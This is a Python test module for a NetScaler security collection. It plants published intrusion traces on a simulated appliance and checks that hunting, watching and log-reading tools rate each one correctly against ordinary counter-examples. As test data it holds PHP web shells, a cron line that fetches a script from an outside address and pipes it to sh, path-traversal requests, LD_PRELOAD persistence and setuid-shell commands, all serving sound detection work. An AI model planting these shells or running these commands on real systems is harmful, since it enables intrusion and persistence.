# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Each trace of an intruder, and what ordinary appliances have instead, as hunt.yml, watch.yml and read_logs.yml judge it: one level for one trace.

    python -m tests.examined_traces [--write]

It prints a table of every trace, and of its ordinary counter-example; ``--write`` puts it into docs/reference/traces.md. A trace has the names and words
that were published, and does nothing.
"""

from __future__ import annotations

import gzip
import sys
import tempfile
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path

import tests.collection  # isort: skip  # noqa: F401

from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.appliance.nitro.connection import Connection
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.catalogue.mitigation import load_mitigation
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.catalogue.record_trust import RecordTrust
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.recorded_traffic.attack_signatures import (
    AttackSignatures,
)
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.finding import Finding
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.known_runs import read_ourselves
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.hunting.hunt import Hunt
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.log_reading.bookmarks import Bookmarks
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.log_reading.examination import read_logs
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.log_reading.known_of_appliance import (
    KnownOfAppliance,
)
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.log_reading.log_sources import logs_of_nodes
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.trace_rules.file_rules import FILE_RULES
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.trace_rules.general_rules import GENERAL_RULES
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.watching.watch import Watch
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.watching.watched_state import WatchedState

from simulator import Simulator
from simulator.server.python_api import ApplianceHandle
from tests.hunt_fleet import ACCESS, BASH, ENTRIES, NS_LOG, request, shell
from tests.marker_fleet import ATTEMPT, COMPROMISE, MESSAGES, NOTHING, REVIEW, Plant, data, file, line
from tests.observing_page import write_part
from tests.stage.memory import CATALOGUE, Stage

HOST, BUILD = "box", "14.1 47.48"
LEVELS = (COMPROMISE, ATTEMPT, REVIEW)
LOGS = "/var/log/"
READERS = ("hunt.yml", "watch.yml", "read_logs.yml")
FIRMWARE, BEFORE = "2026-10-09T04:00:00Z", "2026-06-01T04:00:00Z"
"""The time of the firmware of a simulated appliance, and one before it."""
FIRST_DAY = "2026-10-09T16:00:00Z"
KERNEL = file("/flash/ns-14.1-47.48.gz", "kernel", mtime=FIRMWARE)


@dataclass(frozen=True)
class Trace:
    """A trace, or what an ordinary appliance has.

    :ivar level: at which each reader finds it that sees it; NOTHING where none may
    :ivar where: what the place of its finding has
    :ivar source: who has published it
    :ivar watched: at which level a watch finds it, whose accepted state of the same build does not have this code; "" for the same level
    """

    name: str
    level: str
    where: str
    source: str
    plant: Plant
    watched: str = ""


def at(path: str, level: str, source: str, text: str = "x\n", mtime: str = "") -> Trace:
    return Trace(path, level, path, source, file(path, text, **({"mtime": mtime} if mtime else {})))


def command(text: str, level: str, source: str, user: str = "root", tty: str = "(null)") -> Trace:
    name = f"{user} on {tty}: {text}"
    return Trace(name, level, BASH, source, shell(text, user, tty))


def asked(text: str, level: str, source: str, status: int = 200, log: str = ACCESS) -> Trace:
    if log == ACCESS:
        return Trace(f"{text} {status}", level, log, source, request(text, status))
    form = f'198.51.100.7 - - [18/Jan/2020:00:15:29 +0000] "{text} HTTP/1.1" {status} 718 "-" "x"'
    return Trace(f"{text} {status}", level, log, source, line(log, form))


def elf(path: str, level: str, source: str) -> Trace:
    return Trace(f"{path} (ELF)", level, path, source, data(path, b"\x7fELF\x02\x01"))


def among(path: str, level: str, source: str, text: str) -> Trace:
    """Return a file with the time of twenty others around it, which is that of the firmware."""
    directory = path.rpartition("/")[0]
    plants = [file(f"{directory}/f{number}.png", "png", mtime=FIRMWARE) for number in range(20)]

    def plant(box: ApplianceHandle) -> None:
        for one in (*plants, file(path, text, mtime=FIRMWARE)):
            one(box)

    return Trace(f"{path} (the time of the firmware, {text[:12].strip()!r})", level, path, source, plant)


def handled(path: str, level: str, text: str, settings: str = "/nsconfig/httpd.conf", ending: str = "") -> Trace:
    """Return such a file, where the web server runs files with its last ending, or by a handler with this one, as PHP."""
    old, last = among(path, level, NCSC, text), path.rpartition(".")[2]
    lines = f"AddHandler php5-script .{ending}\n" if ending else f"AddType application/x-httpd-php .{last}\n"
    if settings.endswith(".htaccess"):
        lines = "SetHandler php5-script\n"

    def plant(box: ApplianceHandle) -> None:
        old.plant(box)
        file(settings, lines, mtime=FIRMWARE)(box)

    return replace(old, name=f"{old.name}, run by {settings}", plant=plant)


def packed(path: str, first: bytes) -> Trace:
    """Return a web shell behind the first bytes of a packed file, which a web server delivers as they are."""
    return Trace(f"{path} (PHP behind {first[:6]!r})", COMPROMISE, path, WAVE, data(path, first + PHP.encode()))


FEYE, M3519, NCSC, CTX, NSHUNT, WAVE, SHEET, TRUSTED, VENDOR = (
    "ioc-scanner-CVE-2019-19781",
    "citrix-ioc-scanner-cve-2023-3519",
    "citrix-2025 of NCSC-NL",
    "netscaler-ctx697096-checker",
    "NSHUNT",
    "lists of autumn 2026",
    "catalogue-2",
    "guide of TrustedSec, 2020",
    "the vendor's pages",
)
ATTACK = "MITRE ATT&CK T1070"
PHP, SH = "<?php eval($_POST['x']); ?>\n", "#!/bin/sh\ntrue\n"


def _syslog(text: str, level: str = "local0.info", node: str = "10.1.1.1") -> str:
    return f"Sep 20 01:02:03 <{level}> {node} {text}"


INJECTED = "nsaaad[1]: call to authenticate user :pitboss NSPPE; unexpectedly died x"
JOB = "Jan 19 23:00:06 <cron.info> ns /usr/sbin/cron[1]: (nobody) CMD (ls /)"
KERNEL_SAYS = "Sep 20 01:02:03 <kern.crit> ns kernel: MAC/veriexec: {} (file={} fsid=1)"
UNSIGNED = KERNEL_SAYS.format("no fingerprint", "/var/tmp/x")
CHANGED = KERNEL_SAYS.format("fingerprint does not match loaded value", "/bin/sh")
REJECTED = "0-PPE-0 : default AAA Message 1 0 : Authentication is rejected for "
TRACES = (
    # files
    at("/netscaler/portal/templates/a1.xml", COMPROMISE, FEYE),
    at("/var/tmp/netscaler/portal/templates/a.xml.ttc2", COMPROMISE, FEYE),
    at("/var/nstmp/.nscache/httpd", COMPROMISE, FEYE),
    at("/tmp/.init/httpd", COMPROMISE, FEYE),
    at("/var/cron/tabs/nobody", COMPROMISE, FEYE, "0 0 1 1 * true\n"),
    at("/netscaler/portal/scripts/PersonalBookmak.pl", COMPROMISE, FEYE),
    at("/var/vpn/bookmark/u.xml", COMPROMISE, FEYE, "<x>template.new('x')</x>"),
    at("/var/vpn/themes/a.php", COMPROMISE, M3519, PHP),
    at("/var/netscaler/logon/LogonPoint/uiareas/linux/p.php", COMPROMISE, M3519, PHP),
    at("/var/vpn/themes/insight-new-min.js", REVIEW, M3519),
    at("/nsconfig/rc.netscaler", COMPROMISE, NCSC, "python3 -c 1\n"),
    at("/nsconfig/httpd.conf", COMPROMISE, NCSC, "# php_flag engine off\n"),
    at("/var/netscaler/gui/vpn/scripts/linux/nsginstaller.deb", COMPROMISE, CTX, PHP),
    at("/var/netscaler/gui/vpn/scripts/linux/nsgclient.sig", COMPROMISE, WAVE, SH),
    at("/var/netscaler/gui/vpn/images/f.ico", COMPROMISE, WAVE, PHP),
    at("/var/netscaler/gui/vpns/help/a7s.php", COMPROMISE, WAVE, PHP),
    at("/var/ns_gui/x/y.php", COMPROMISE, SHEET, PHP),
    at("/var/netscaler/logon/LogonPoint/custom/a/b/c/d/e.css", COMPROMISE, SHEET, PHP),
    at("/var/netscaler/logon/LogonPoint/custom/.local_journal", COMPROMISE, WAVE),
    at("/var/netscaler/logon/LogonPoint/custom/.s2loot", REVIEW, WAVE),
    elf("/var/netscaler/logon/LogonPoint/custom/walk", COMPROMISE, WAVE),
    packed("/var/netscaler/gui/vpn/images/g.ico", b"\xfd7zXZ\x00"),
    packed("/var/netscaler/gui/vpn/images/h.ico", b"\x1f\x8b\x08\x00"),
    packed("/var/netscaler/gui/vpn/images/i.ico", gzip.compress(b"icon", mtime=0)),
    among("/var/netscaler/gui/vpn/images/j.ico", COMPROMISE, WAVE, PHP),
    among("/var/netscaler/gui/vpn/scripts/linux/k.deb", COMPROMISE, WAVE, SH),
    among("/var/netscaler/gui/vpn/scripts/linux/l.sig", COMPROMISE, WAVE, "<?PHP @eval($_POST[1]);"),
    handled("/var/netscaler/gui/vpn/theme/k.css", COMPROMISE, PHP),
    handled("/netscaler/ns_gui/vpn/js/l.js", COMPROMISE, PHP, "/etc/httpd.conf"),
    handled("/var/netscaler/gui/vpn/theme/o.tpl.css", COMPROMISE, PHP, ending="tpl"),
    among("/var/netscaler/gui/vpn/theme/p.php.css", COMPROMISE, NCSC, PHP),
    handled("/var/netscaler/logon/LogonPoint/custom/m.png", COMPROMISE, PHP, "/var/netscaler/logon/LogonPoint/custom/.htaccess"),
    replace(among("/netscaler/ns_gui/admin_ui/m.php", REVIEW, ATTACK, "<?php array_map('assert', $_REQUEST); ?>\n"), watched=COMPROMISE),
    replace(at("/netscaler/ns_gui/vpn/n.pl", REVIEW, CTX, SH, FIRST_DAY), watched=COMPROMISE),
    at("/var/netscaler/gui/vpn/images/o.ico", COMPROMISE, WAVE, "<?= system($_GET[1]) ?>"),
    at("/var/netscaler/logon/LogonPoint/custom/.htaccess", COMPROMISE, NCSC, "AddHandler php5-script .css\n"),
    at("/var/netscaler/logon/LogonPoint/custom/.user.ini", COMPROMISE, NCSC, "auto_prepend_file=/var/tmp/x\n"),
    elf("/nsconfig/x.so", REVIEW, WAVE),
    at("/nsconfig/httpd.conf", REVIEW, NCSC, 'LoadFile "/var/nslog/x.so"\n'),
    elf("/var/tmp/bounds", REVIEW, SHEET),
    elf("/var/tmp/backup.gz", REVIEW, SHEET),
    elf("/var/tmp/nsaaad", REVIEW, SHEET),
    at("/nsconfig/.slap/x", COMPROMISE, SHEET),
    at("/var/core/.ns-cache/x", COMPROMISE, SHEET),
    at("/var/tmp/.nsagent", REVIEW, WAVE),
    at("/nsconfig/.x", REVIEW, SHEET),
    at("/tmp/a/b/.c", REVIEW, SHEET),
    at("/tmp/sh.txt", REVIEW, SHEET, SH),
    elf("/var/tmp/a/ns_helper", REVIEW, WAVE),
    elf("/var/nstmp/customsnmpd", REVIEW, WAVE),
    at("/netscaler/ns_gui/vpn/e.txt", REVIEW, CTX),
    at("/netscaler/ns_gui/admin_ui/id009.php", COMPROMISE, CTX, PHP),
    at("/etc/libmap.conf", COMPROMISE, SHEET, "libc.so.7 /var/tmp/x.so\n"),
    at("/nsconfig/nsbefore.sh", COMPROMISE, SHEET, "export LD_PRELOAD=/var/tmp/x.so\n"),
    at("/etc/libmap32.conf", COMPROMISE, SHEET, "libc.so.7 /var/tmp/x.so\n"),
    at("/etc/login.conf", COMPROMISE, SHEET, "x:setenv=LD_PRELOAD=/var/x.so:\n"),
    at("/etc/httpd.conf", COMPROMISE, NCSC, "php_value auto_prepend_file /var/x\n"),
    at("/root/.ssh/authorized_keys", REVIEW, WAVE, "ssh-ed25519 AAAA x\n"),
    at("/var/cron/tabs/operator", REVIEW, SHEET, "0 * * * * true\n"),
    at("/var/cron/tabs/root", COMPROMISE, M3519, "0 * * * * sh /var/tmp/x\n"),
    at("/nsconfig/crontab", COMPROMISE, FEYE, "* * * * * root fetch -qo - http://192.0.2.66/x | /bin/sh\n"),
    at("/var/core/1/NSPPE-00-123.gz", REVIEW, NCSC),
    at("/var/core/1/nsaaad-00-123.gz", REVIEW, WAVE),
    # lines of the shell
    command("uname -a", COMPROMISE, FEYE, "nobody"),
    command("tee /netscaler/portal/x", COMPROMISE, FEYE),
    command("tee /netscaler/portal/x", REVIEW, FEYE, tty="/dev/pts/0"),
    command("cat /flash/nsconfig/keys/updated/F1.key", COMPROMISE, M3519),
    command("ldapsearch -H ldaps://dc", COMPROMISE, M3519),
    command("grep x /tmp/a; cp /bin/sh /var/x", COMPROMISE, M3519),
    command("chmod 6555 /bin/sh", COMPROMISE, WAVE),
    command("chmod -v u+s /var/tmp/x", COMPROMISE, SHEET),
    command("id", REVIEW, TRUSTED, "(null)"),
    command("setenv LD_PRELOAD /var/x.so", COMPROMISE, SHEET),
    command("touch -r /bin/ls /flash/ns-14.1-47.48.gz", REVIEW, ATTACK),
    command("unset HISTFILE", REVIEW, ATTACK),
    Trace("history of a BSD shell", REVIEW, "/root/.history", SHEET, file("/root/.history", "ldapsearch -H ldaps://dc\n")),
    Trace("history of bash", REVIEW, "/root/.bash_history", SHEET, file("/root/.bash_history", "cp /bin/sh /var/tmp/x\n")),
    # requests
    asked("GET /vpn/../vpns/portal/s12345678s.xml", COMPROMISE, FEYE),
    asked("GET /vpn/../vpns/cfg/smb.conf", ATTEMPT, FEYE),
    asked("GET /vpn/../vpns/portal/scripts/newbm.pl", ATTEMPT, FEYE, 404),
    asked("POST /rapi/filedownload?filter=path:%2Fetc%2Fpasswd", ATTEMPT, SHEET, 406),
    asked("POST /pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody&username=nsroot&set=1", ATTEMPT, SHEET),
    asked("GET /vpn/themes/imgs/debug.php", COMPROMISE, SHEET),
    asked("GET /vpn/themes/imgs/debug.php", ATTEMPT, SHEET, 404, "/var/log/httpaccess-vpn.log"),
    asked("GET /vpn/%74hemes/imgs/debug%2Ephp", COMPROMISE, SHEET),
    asked("POST /logon/..;/vpn/./themes//debug.php", COMPROMISE, SHEET),
    asked("GET /vpn/%2574hemes/debug.php", ATTEMPT, SHEET, 404, "/var/log/httpaccess-vpn.log"),
    asked("GET /wsfed/passive?wctx", ATTEMPT, SHEET, log="/var/log/httpaccess-vpn.log"),
    # lines of daemons
    Trace("armed line", ATTEMPT, NS_LOG, WAVE, line(NS_LOG, _syslog(INJECTED))),
    Trace("bytes of memory", COMPROMISE, NS_LOG, "CVE-2025-5777", data(f"{NS_LOG}.0", _syslog(REJECTED).encode() + b"\x80\xfe\x01\n")),
    Trace("cron job of nobody", COMPROMISE, "/var/log/cron", FEYE, line("/var/log/cron", JOB)),
    Trace("unsigned file", REVIEW, MESSAGES, VENDOR, line(MESSAGES, UNSIGNED)),
    Trace("changed executable", COMPROMISE, MESSAGES, VENDOR, line(MESSAGES, CHANGED)),
)  # fmt: skip
ORDINARY = (
    asked("POST /saml/login", NOTHING, SHEET, log="/var/log/httpaccess-vpn.log"),
    asked("GET /saml/login?SAMLRequest=fZJ", NOTHING, SHEET, log="/var/log/httpaccess-vpn.log"),
    asked("GET /wsfed/passive?wa=wsignin1.0&wctx=a", NOTHING, SHEET, log="/var/log/httpaccess-vpn.log"),
    asked("GET /vpn/themes/imgs/logo.png", NOTHING, VENDOR),
    asked("GET /vpn/%74hemes/imgs/my%20logo.png?a=%2Ephp", NOTHING, VENDOR),
    asked("GET /logon/LogonPoint/custom/./style%2Ecss", NOTHING, VENDOR),
    among("/var/netscaler/gui/vpn/images/logo.ico", NOTHING, VENDOR, "\x00\x00\x01\x00\n"),
    among("/var/netscaler/gui/vpn/scripts/linux/nsgclient.deb", NOTHING, VENDOR, "!<arch>\ndebian-binary\n"),
    replace(among("/netscaler/ns_gui/admin_ui/show.php", NOTHING, VENDOR, "<?php echo $_GET['page']; ?>\n"), watched=COMPROMISE),
    command("touch /nsconfig/x", NOTHING, VENDOR),
    command("history 20", NOTHING, VENDOR, tty="/dev/pts/0"),
    at("/var/netscaler/gui/vpn/style.txt", NOTHING, VENDOR, "<?xml version='1.0'?>\n", FIRMWARE),
    command("ldapsearch -H ldaps://dc", REVIEW, SHEET, tty="/dev/pts/0"),
    command("find / -name x.php -perm -4000", NOTHING, SHEET, tty="/dev/pts/0"),
    command("grep -rF 'www.jdjd.com' /var/log", REVIEW, FEYE),
    command("chmod 755 /var/x", NOTHING, VENDOR),
    command("chmod 1777 /var/x", NOTHING, VENDOR),
    command("chmod +x /nsconfig/x", NOTHING, VENDOR),
    Trace("a restart of a packet engine", REVIEW, NS_LOG, SHEET, line(NS_LOG, _syslog("pitboss[90]: PPE-0 unexpectedly died", "local0.crit"))),
    Trace("a name with an accent", REVIEW, NS_LOG, SHEET, data(f"{NS_LOG}.0", _syslog(f"{REJECTED}Jos\u00e9").encode() + b"\n")),
    at("/var/netscaler/gui/vpn/scripts/linux/nsgclient64.deb", NOTHING, VENDOR, "!<arch>\ndebian-binary\n", FIRMWARE),
    at("/var/netscaler/gui/vpn/images/logo.ico", NOTHING, VENDOR, "\x00\x00\x01\x00\n", FIRMWARE),
    at("/netscaler/ns_gui/admin_ui/php/index.php", NOTHING, VENDOR, "<?php include 'x'; ?>\n", FIRMWARE),
    at("/nsconfig/crontab", NOTHING, VENDOR, "*/5 * * * * root /nsconfig/monitors/load.sh\n"),
    at("/var/tmp/bounds", NOTHING, VENDOR, "1\n"),
    at("/var/tmp/log-2026-10-01.php", NOTHING, CTX, "<?php $result = 1;\n"),
    at("/tmp/session.txt", NOTHING, VENDOR, "a script would begin with #!/bin/sh\n"),
    at("/root/.cshrc", NOTHING, VENDOR, "alias ll ls -l\n", FIRMWARE),
    Trace("history of an administrator", NOTHING, "/root/.history", VENDOR, file("/root/.history", "show ns ip\nls /var/log\n")),
)  # fmt: skip


@dataclass(frozen=True)
class Readings:
    """The three readers of one simulated appliance, of which the watch has an accepted state."""

    stage: Stage
    accepted: WatchedState
    signatures: AttackSignatures

    def of(self, plants: Sequence[Plant]) -> dict[str, tuple[Finding, ...]]:
        """Return by reader what it finds on a fresh appliance with these traces."""
        simulator = self.stage.simulator
        simulator.reset()
        KERNEL(simulator.appliance(HOST))
        for plant in plants:
            plant(simulator.appliance(HOST))
        ours = read_ourselves(self.stage.records, HOST, RecordTrust(), ["nsroot"])
        with Connection(self.stage.appliance) as connection:
            hunted = Hunt(HOST, ENTRIES, ours).look(connection).examined.findings
            _state, watched = Watch(HOST, self.accepted, self.accepted, entries=ENTRIES).look(connection, "now")
            known = KnownOfAppliance(HOST, ours, (), ENTRIES, self.signatures)
            read = read_logs(known, logs_of_nodes(connection), Bookmarks()).examination.findings
        return dict(zip(READERS, (hunted, watched.findings, read), strict=True))

    def level(self, findings: Sequence[Finding], where: str) -> str:
        """Return the most urgent level of the findings at a place."""
        found = {str(one.level) for one in findings if any(_is_of(place, where) for place in one.where.split(", "))}
        return next((level for level in LEVELS if level in found), NOTHING)

    def levels(self, trace: Trace) -> dict[str, str]:
        """Return by reader at which level it finds a trace."""
        return {reader: self.level(found, trace.where) for reader, found in self.of([trace.plant]).items()}


def _is_of(place: str, where: str) -> bool:
    """Return True for the place itself, a rotated log of it, or a directory above it that is a trace."""
    return place == where or place.startswith(f"{where}.") or (where.startswith(f"{place}/") and "/." in place)


@contextmanager
def readings() -> Iterator[Readings]:
    """Start the appliance, accept its state, and yield its readers."""
    fleet = {"appliances": {HOST: {"build": BUILD, "nodes": ["127.0.1.1:0"]}}}
    with tempfile.TemporaryDirectory() as name, Simulator(fleet) as simulator:
        directory = Path(name)
        directory.chmod(0o700)
        stage = Stage(simulator, directory, HOST)
        KERNEL(simulator.appliance(HOST))
        with Connection(stage.appliance) as connection:
            accepted, _examined = Watch(HOST).look(connection, "before")
        yield Readings(stage, accepted, AttackSignatures([load_mitigation(CATALOGUE).traffic]))


def is_wrong(trace: Trace, levels: dict[str, str]) -> bool:
    """Return True where a reader that looks there does not find a trace at its level. To a watch, each new file is a change, and for review."""
    hunted, watched, read = levels.values()
    if trace.where.startswith(LOGS):
        return {hunted, read} != {trace.level} or watched not in (NOTHING, trace.level)
    if "history" in trace.where:
        watched = hunted
    return (
        hunted != trace.level
        or read != NOTHING
        or watched not in (trace.watched or trace.level, REVIEW if trace.level == NOTHING else trace.level)
    )


def rules() -> list[str]:
    """Return the rules by property as a table."""
    rows = [(str(rule.level), rule.what, rule.ordinary, rule.source) for rule in FILE_RULES]
    rows += [(str(one.level), f"{one.kind}: {one.about}", "", one.source) for one in GENERAL_RULES]
    return [
        "| level | trace | not | source |",
        "| --- | --- | --- | --- |",
        *(f"| {' | '.join(row)} |" for row in rows),
    ]


def main(arguments: Sequence[str]) -> int:
    """Print the table of all traces, and write what the pages show of it where that is wanted.

    :returns: the exit code: 1 where a reader disagrees
    """
    wrong, rows, began = 0, [], datetime.now(UTC)
    with readings() as three:
        for trace in (*TRACES, *ORDINARY):
            levels = three.levels(trace)
            bad = is_wrong(trace, levels)
            wrong += bad
            print(
                f"{'WRONG' if bad else '':5} {trace.level:13} {trace.name[:70]:70}",
                *(f"{one:13}" for one in levels.values()),
            )
            rows.append(f"| `{trace.name}` | {' | '.join(levels.values())} | {trace.source} |")
    print(
        f"{len(TRACES)} traces, {len(ORDINARY)} ordinary ones, {wrong} wrong; {(datetime.now(UTC) - began).seconds} s"
    )
    if "--write" in arguments and not wrong:
        table = [f"| trace | {' | '.join(READERS)} | source |", "| --- | --- | --- | --- | --- |", *rows]
        write_part("traces", ["", *rules(), "", "## Every trace, at each reader", "", *table])
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
